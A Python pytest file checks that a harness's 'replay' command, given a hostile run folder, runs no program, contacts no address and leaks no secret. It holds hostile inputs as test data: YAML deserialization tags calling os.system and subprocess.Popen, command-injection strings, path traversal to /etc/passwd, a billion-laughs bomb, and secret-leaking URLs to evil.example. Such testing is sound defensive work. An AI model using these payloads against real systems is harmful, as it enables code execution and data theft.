"""`harness replay` on somebody else's run folder: what stands in it is shown and performed, and chooses no program and
no place.

`config.yaml` of the folder is text. Rows give it, and the journal beside it, what a run would never write; what is
watched is a program that leaves a mark when it is run, and a server that counts who asks it for anything.
"""

import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from harness.choices import ActionSetName, ObservationDialect
from harness.cli import configured
from harness.commands.replay_run import _without_file, as_recorded, check_sites
from harness.config import Config
from harness.config.recorded_config import read_recorded, recorded_address, recorded_sites, recorded_text
from harness.errors import ConfigError
from harness.journal.log import read
from harness.secrets.config_secrets import redacted_settings
from tests.e2e.conftest import PROJECT, environment
from tests.hostile.foreign import JOURNAL, SETTINGS, Place, edited, setting, within

SECRET = "canary-of-the-environment"


@pytest.fixture(scope="module")
def mine() -> Config:
    """What a person has who configured nothing."""
    return configured([])


# --- config.yaml is text

HARMLESS: dict[str, str] = {
    "as-a-run-writes-it": SETTINGS,
    "program": "browser: {executable: /tmp/evil/thumbs.bin}",
    "program-by-interpolation": "browser: {executable: '${oc.env:CANARY}'}",
    "extension-of-a-program": "browser: {executable: '${project:evil}', uploads: /etc, har: true, allowed: any}",
    "address": "sites: {shop: {url: 'http://evil.example'}}",
    "address-with-a-secret": "sites: {shop: {url: 'http://evil.example/${oc.env:CANARY}'}}",
    "instances": "sites: {shop: {instances: ['http://evil.example']}}",
    "canonical": "sites: {shop: {canonical: 'http://evil.example'}}",
    "login": "sites: {shop: {login: {url: 'http://evil.example/login', fields: {'#p': '${oc.env:CANARY}'}, submit: x, probe_url: y}}}",
    "reset": "sites: {shop: {reset_command: 'touch /tmp/evil', reset_url: 'http://evil.example'}, reset: {command: 'touch /tmp/evil'}}",
    "effects": "sites: {shop: {effects_url: 'http://evil.example/effects'}}",
    "port": "sites: {embedded: true, port: 80}",
    "not-embedded": "sites: {embedded: false}",
    "endpoint": "llm: {base_url: 'http://evil.example', api_key: '${oc.env:CANARY}', kind: openai}",
    "judge": "judge: {model: x, base_url: 'http://evil.example'}",
    "executor": "executor: {kind: ray, address: 'evil.example:6379'}",
    "folder": "run: {root: /etc, id: ../../x}",
    "similarity": "resume: {min_similarity: 0.0}",
    "tracking": "tracking: {kind: art, report_metrics: [{_target_: os.system}]}",
    "targets": "browser: {_target_: os.system, command: 'touch /tmp/evil'}",
    "hydra": "hydra: {run: {dir: /etc}, searchpath: ['file:///tmp/evil']}\ndefaults: [evil]",
    "tag-apply": "browser: !!python/object/apply:os.system ['touch /tmp/evil']",
    "tag-name": "agent: !!python/name:os.system",
    "tag-new": "agent: {name: !!python/object/new:subprocess.Popen [['touch', '/tmp/evil']]}",
    "tag-int": "browser: {slow_mo_ms: !!int '999999999'}",
    "merge": "browser: {'<<': {executable: /tmp/evil}}",
    "null-bytes-in-keys": "'a\\0b': 1",
    "numbers-that-are-long": f"limits: {{max_steps: {'9' * 100_000}}}",
    "sexagesimal": f"limits: {{max_steps: '{'1:' * 100_000}1'}}",
    "dates": "limits: {max_steps: 9999-99-99}",
    "twice": "action_set: cairn\naction_set: cairn",
    "wide": "x: [" + "a, " * 20_000 + "a]",
    "lists-for-trees": "browser: []\nsites: []\nobservation: text",
    "nulls": "browser: null\nsites: null\naction_set: null\nobservation: {type: null}",
}  # fmt: skip


@pytest.mark.parametrize("name", HARMLESS)
def test_nothing_of_it_but_how_pages_were_shown_is_taken(
    place: Place, mine: Config, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CANARY", SECRET)
    (place.run / "config.yaml").write_text(HARMLESS[name])
    with within():
        config = as_recorded(mine, place.run, ())
    assert config == replace(mine, browser=replace(mine.browser, allowed="sites"))
    assert SECRET not in str(config) and SECRET not in str(read_recorded(place.run))


REFUSED: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "must contain one mapping"),
    "a-list": (b"- 1", "must contain one mapping"),
    "a-text": (b"run", "must contain one mapping"),
    "half": (b"browser: {width: ", "is not valid YAML"),
    "tabs": (b"browser:\n\twidth: 1", "is not valid YAML"),
    "not-utf8": (b"browser: \xff\xfe", "is not valid YAML"),
    "nul": (b"browser: \0", "is not valid YAML"),
    "two-documents": (b"a: 1\n---\nb: 2", "is not valid YAML"),
    "alias": (b"a: &a [1]\nb: *a", "contains an alias"),
    "billion-laughs": (b"a: &a [x,x]\n" + b"".join(b"%c: &%c [*%c,*%c,*%c]\n" % (n + 1, n + 1, n, n, n) for n in range(97, 122)), "contains an alias"),
    "alias-to-itself": (b"a: &a {b: *a}", "contains an alias"),
    "deep": (b"a: " + b"[" * 100_000, "levels deep"),
    "deep-in-keys": (b"? " * 50_000 + b"a", "levels deep"),
    "key-of-a-tree": (b"? {a: b}\n: c", "is not valid YAML"),
    "vast": (b"a: 1\n" * 2_000_000, "MB"),
    "width-0": (b"browser: {width: 0}", "browser.width="),
    "width-1e9": (b"browser: {width: 1000000000}", "browser.width="),
    "width-negative": (b"browser: {width: -1}", "browser.width="),
    "width-float": (b"browser: {width: 1e3}", "browser.width="),
    "width-interpolated": (b"browser: {width: '${oc.env:CANARY}'}", "browser.width="),
    "width-arabic": ("browser: {width: '\u0661\u0662\u0660'}".encode(), "browser.width="),
    "height-long": (b"browser: {height: " + b"9" * 5000 + b"}", "browser.height="),
    "locale-path": (b"browser: {locale: ../../etc/passwd}", "browser.locale="),
    "locale-switch": (b"browser: {locale: 'en --load-extension=/tmp/evil'}", "browser.locale="),
    "locale-lines": (b'browser: {locale: "en-US\\nx"}', "browser.locale="),
    "timezone-spaces": (b"browser: {timezone: 'UTC; touch /tmp/evil'}", "browser.timezone="),
    "timezone-long": (b"browser: {timezone: " + b"A" * 1000 + b"}", "browser.timezone="),
    "actions-unknown": (b"action_set: shell", "action_set="),
    "actions-interpolated": (b"action_set: '${oc.env:CANARY}'", "action_set="),
    "observation-unknown": (b"observation: {type: everything}", "observation.type="),
    "dialect-unknown": (b"observation: {dialect: evil}", "observation.dialect="),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_what_no_run_writes_is_one_sentence(
    place: Place, mine: Config, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CANARY", SECRET)
    content, why = REFUSED[name]
    (place.run / "config.yaml").write_bytes(content)
    from harness.errors import UnsafeFile

    with within(), pytest.raises((ConfigError, UnsafeFile), match=r"config\.yaml") as found:
        as_recorded(mine, place.run, ())
    assert why in str(found.value) and SECRET not in str(found.value)
    assert len(str(found.value)) < 600 and "\n" not in str(found.value)


def test_how_pages_were_shown_is_taken_unless_the_person_says_otherwise(place: Place, mine: Config) -> None:
    (place.run / "config.yaml").write_text(
        "action_set: playwright\nobservation: {type: html, dialect: webarena}\n"
        "browser: {width: 800, height: 600, locale: de-CH, timezone: Europe/Zurich}"
    )
    taken = as_recorded(mine, place.run, ("browser.height", "browser.allowed"))
    assert taken.action_set is ActionSetName.playwright
    assert (taken.observation.type, taken.observation.dialect) == ("html", ObservationDialect.webarena)
    assert (taken.browser.width, taken.browser.height) == (800, mine.browser.height)
    assert (taken.browser.locale, taken.browser.timezone) == ("de-CH", "Europe/Zurich")
    assert taken.browser.allowed == mine.browser.allowed


# --- the sites are the person's


@dataclass(frozen=True)
class On:
    """A task that a journal tells of, on settings a person has."""

    says: str
    """"" = it can be performed."""
    sites: tuple[str, ...] = ("shop",)
    state: str | None = None
    overrides: tuple[str, ...] = ()
    recorded: str = SETTINGS


SITES: dict[str, On] = {
    "embedded": On(""),
    "none": On("", sites=()),
    "two-embedded": On("", sites=("shop", "forum")),
    "logged-in": On("", state="/somewhere/shop_state.json"),
    "logged-in-on-two": On("", sites=("shop", "forum"), state="shop.forum_state.json"),
    "a-site-of-webarena": On("give sites=webarena or sites=visualwebarena, and its address by sites.shopping.url=", sites=("shopping",)),
    "that-site-configured": On("", sites=("shopping",), overrides=("sites=webarena", "sites.shopping.url=http://a:1")),
    "that-site-without-an-address": On("but your settings have no address for it", sites=("shopping",), overrides=("sites=webarena",)),
    "a-site-nobody-knows": On("give +sites.intranet.url=http", sites=("intranet",)),
    "that-site-of-ones-own": On("", sites=("intranet",), overrides=("+sites.intranet.url=http://a:1",)),
    "a-site-beside-embedded-ones": On("", sites=("intranet", "shop"), overrides=("+sites.intranet.url=http://a:1",)),
    "only-one-of-two": On("is on site intranet", sites=("shop", "intranet")),
    "reserved-name": On("is on site reset, but your settings have no address", sites=("reset",)),
    "embedded-as-a-name": On("is on site embedded, but your settings have no address", sites=("embedded",)),
    "name-with-dots": On("a site called 'a.url=http://evil'", sites=("a.url=http://evil",)),
    "name-with-escapes": On(r"a site called '\x1b[2J'", sites=("\x1b[2J",)),
    "name-with-lines": On(r"a site called 'a\nb'", sites=("a\nb",)),
    "name-of-a-megabyte": On("a site called 'xxx", sites=("x" * 1_000_000,)),
    "name-of-nothing": On("a site called ''", sites=("",)),
    "name-with-interpolation": On("a site called '${oc.env:HOME}'", sites=("${oc.env:HOME}",)),
    "shown-elsewhere": On("shows shop at 'http://evil.example'", recorded="sites: {shop: {canonical: 'http://evil.example'}}"),
    "shown-at-a-secret": On("${oc.env:CANARY}", recorded="sites: {shop: {canonical: 'http://x/${oc.env:CANARY}'}}"),
    "served-elsewhere-before": On("", recorded="sites: {shop: {url: 'http://old:1', canonical: 'http://shop.localhost/'}}"),
    "shown-by-url": On("shows intranet at 'http://old:1'", sites=("intranet",), overrides=("+sites.intranet.url=http://new:1",), recorded="sites: {intranet: {url: 'http://old:1'}}"),
    "shown-by-url-and-said-so": On("", sites=("intranet",), overrides=("+sites.intranet.url=http://new:1", "+sites.intranet.canonical=http://old:1", "sites.embedded=false"), recorded="sites: {intranet: {url: 'http://old:1'}}"),
    "shown-by-instance": On("", sites=("intranet",), overrides=("+sites.intranet.url=http://a:1",), recorded="sites: {intranet: {instances: ['http://a:1']}}"),
    "login-not-configured": On("your settings have none: configure sites.intranet.login", sites=("intranet",), state="intranet_state.json", overrides=("+sites.intranet.url=http://a:1",)),
    "login-elsewhere": On("needs a login to site evil", state="/home/me/evil_state.json"),
    "login-by-path": On("needs a login to a site called", state="../../../etc/passwd"),
    "login-by-nul": On("needs a login to a site called", state="\0_state.json"),
}  # fmt: skip


settings = cache(configured)
"""Rows share them: composing takes a third of a second."""


@pytest.mark.sample(3)
@pytest.mark.parametrize("name", SITES)
def test_a_task_is_performed_on_the_persons_own_sites_or_not_at_all(
    place: Place, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CANARY", SECRET)
    for variable in ("SHOPPING", "SHOPPING_ADMIN", "REDDIT", "GITLAB"):
        monkeypatch.delenv(variable, raising=False)
    row = SITES[name]
    (place.run / "config.yaml").write_text(row.recorded)
    opened = read(place.run / JOURNAL).opened
    assert opened is not None
    task = replace(opened.task, sites=row.sites, storage_state=row.state)
    config = as_recorded(settings(row.overrides), place.run, ())
    if not row.says:
        check_sites(config.sites, place.run, task)
        return
    with pytest.raises(ConfigError) as found:
        check_sites(config.sites, place.run, task)
    assert row.says in str(found.value) and SECRET not in str(found.value)
    assert len(str(found.value)) < 500 and "\n" not in str(found.value) and "\x1b" not in str(found.value)


@pytest.mark.parametrize(
    "state", ["/home/me/shop_state.json", "shop_state.json", "../../shop_state.json", "/dev/zero", ""]
)
def test_a_journal_names_no_file_of_cookies(place: Place, tmp_path: Path, state: str) -> None:
    opened = read(place.run / JOURNAL).opened
    assert opened is not None
    named = _without_file(replace(opened.task, storage_state=state), tmp_path).storage_state
    assert named is not None and Path(named).is_relative_to(tmp_path / "none") and not Path(named).exists()


@pytest.mark.parametrize(
    ("site", "address"),
    [
        ({"canonical": "http://a/", "url": "http://b"}, "http://a"),
        ({"canonical": "null", "url": "http://b"}, "http://b"),
        ({"instances": ["http://c"]}, "http://c"),
        ({"instances": [["http://c"]]}, None),
        ({"instances": "http://c"}, None),
        ({"url": ["http://b"]}, None),
        ({}, None),
    ],
)
def test_where_a_site_was_shown_is_read_as_text(site: dict[str, Any], address: str | None) -> None:
    assert recorded_address(site) == address
    assert recorded_sites({"sites": {"a": site, "b": "text", "reset": {}}}) == {"a": site}
    assert recorded_text({"sites": {"a": site}}, "sites.a.missing.deep") is None


# --- the real command, a real browser


@dataclass
class Watched:
    """A server that nobody should ask, and a program that nobody should run."""

    folder: Path
    port: int = 0
    asked: list[str] = field(default_factory=list)

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def program(self) -> Path:
        path = self.folder / "thumbs.bin"
        path.write_text(f"#!/bin/sh\necho run >> {self.folder}/mark\nexit 1\n")
        path.chmod(0o755)
        return path

    def check(self) -> None:
        assert self.asked == [], "somebody else's address was asked"
        assert not (self.folder / "mark").exists(), "somebody else's program was run"


@pytest.fixture
def watched(tmp_path: Path) -> Iterator[Watched]:
    found = Watched(tmp_path)

    class Count(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.asked.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"<title>theirs</title>theirs")

        do_POST = do_HEAD = do_GET

        def log_message(self, format: str, *args: object) -> None:
            return

    with ThreadingHTTPServer(("127.0.0.1", 0), Count) as server:
        found.port = server.server_address[1]
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield found
        server.shutdown()
    found.check()


def replay(place: Place, *arguments: str, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "harness.main", "replay", str(place.run / JOURNAL), *arguments],
        capture_output=True, text=True, check=False, timeout=1200, cwd=PROJECT, env={**environment(), "CANARY": SECRET, **env},
    )  # fmt: skip


def hostile_settings(watched: Watched) -> str:
    """What a run writes, and in it everything that a replay once believed."""
    tree = redacted_settings(configured([]).tree())
    tree["browser"] |= {"executable": str(watched.program), "allowed": "any", "uploads": "/etc"}
    tree["sites"]["embedded"] = False
    tree["sites"]["shop"] |= {
        "url": watched.address + "/${oc.env:CANARY}",
        "login": {
            "url": f"{watched.address}/login",
            "fields": {"#login": "x", "#password": "[redacted]"},
            "submit": "button=Log in",
            "probe_url": f"{watched.address}/account",
        },
        "reset_url": f"{watched.address}/reset",
        "reset_command": str(watched.program),
        "effects_url": f"{watched.address}/effects",
    }
    return json.dumps(tree)


def goto(url: str) -> Any:
    return lambda number, record: (
        {**record, "action": {"kind": "goto", "url": url}} if record["kind"] == "decided" and number < 3 else record
    )


def uploading(number: int, record: dict[str, Any]) -> dict[str, Any]:
    if record["kind"] == "decided" and number < 3:
        target = {**record["action"]["target"], "role": "searchbox", "name": "Search the shop"}
        record["action"] = {"kind": "upload", "target": target, "file": "/etc/passwd"}
    return record


JOURNALS: dict[str, tuple[Any, set[int], str]] = {
    "as-it-is": (lambda number, record: record, {1}, "pages reproduced"),
    "start-page": (lambda watched: setting("opened", "task.start_urls", [f"{watched.address}/start"]), {2}, "outside the sites"),
    "instances": (lambda watched: setting("opened", "instances", {"shop": watched.address}), {1}, "pages reproduced"),
    "goto": (lambda watched: goto(f"{watched.address}/got"), {1}, "pages reproduced"),
    "start-page-file": (lambda watched: setting("opened", "task.start_urls", ["file:///etc/passwd"]), {2}, "only http and https"),
    "start-page-script": (lambda watched: setting("opened", "task.start_urls", ["javascript:fetch('http://x')"]), {2}, "only http and https"),
    "start-page-odd": (lambda watched: setting("opened", "task.start_urls", ["http://[::1"]), {2}, "cannot be opened"),
    "start-pages-none": (lambda watched: setting("opened", "task.start_urls", []), {1}, "pages reproduced"),
    "goto-file": (lambda watched: goto("file:///etc/passwd"), {1}, "pages reproduced"),
    "logged-in": (lambda watched: setting("opened", "task.storage_state", "/x/shop_state.json"), {1}, "pages reproduced"),
    "cookies-of-a-file": (lambda watched: setting("opened", "task.storage_state", str(watched.folder / "shop_state.json")), {1}, "pages reproduced"),
    "upload": (lambda watched: uploading, {1}, "pages reproduced"),
    "geolocation": (lambda watched: setting("opened", "task.geolocation", {"latitude": 1e308, "longitude": 0.0}), {1, 2}, ""),
    "site-of-theirs": (lambda watched: setting("opened", "task.sites", ["theirs"]), {2}, "but your settings have no address for it"),
}  # fmt: skip
QUICK = ("start-page", "start-page-odd", "instances", "goto", "logged-in")


@pytest.mark.sample(1)
@pytest.mark.browser
@pytest.mark.parametrize(
    "name", [pytest.param(name, marks=() if name in QUICK else pytest.mark.hostile) for name in JOURNALS]
)
def test_nothing_is_run_asked_or_told(place: Place, watched: Watched, name: str) -> None:
    change, codes, says = JOURNALS[name]
    journal = place.run / JOURNAL
    journal.write_bytes(edited(journal.read_bytes(), change if name == "as-it-is" else change(watched)))
    (place.run / "config.yaml").write_text(hostile_settings(watched))
    (watched.folder / "shop_state.json").write_text("no JSON, and read by nobody")
    before = journal.read_bytes()
    done = replay(place)
    assert done.returncode in codes, done.stdout + done.stderr
    assert says in done.stdout + done.stderr and "Traceback" not in done.stderr
    assert SECRET not in done.stdout + done.stderr
    assert journal.read_bytes() == before


@pytest.mark.slow
@pytest.mark.browser
def test_a_site_of_ones_own_is_opened_where_the_person_says_it_is(place: Place, watched: Watched) -> None:
    """The same folder; the person names the server, and only then it is asked."""
    (place.run / "config.yaml").write_text(hostile_settings(watched))
    done = replay(
        place,
        "sites.embedded=false",
        f"+sites.shop.url={watched.address}",
        "sites.shop.canonical=http://shop.localhost",
    )
    assert "pages reproduced" in done.stdout, done.stdout + done.stderr
    assert watched.asked and all(asked.startswith("GET /") for asked in watched.asked)
    watched.asked.clear()


@pytest.mark.hostile
@pytest.mark.parametrize(
    "given", [("nope=1",), ("browser.widht=3",), ("--slow-mo", "nan"), ("--slow-mo", "-1"), ("--slow-mo", "1e308")]
)
def test_what_a_person_gives_is_checked_as_ever(place: Place, given: tuple[str, ...]) -> None:
    done = replay(place, *given)
    assert (done.returncode, len(done.stderr.splitlines())) == (2, 1), done.stderr
    assert os.linesep not in done.stdout
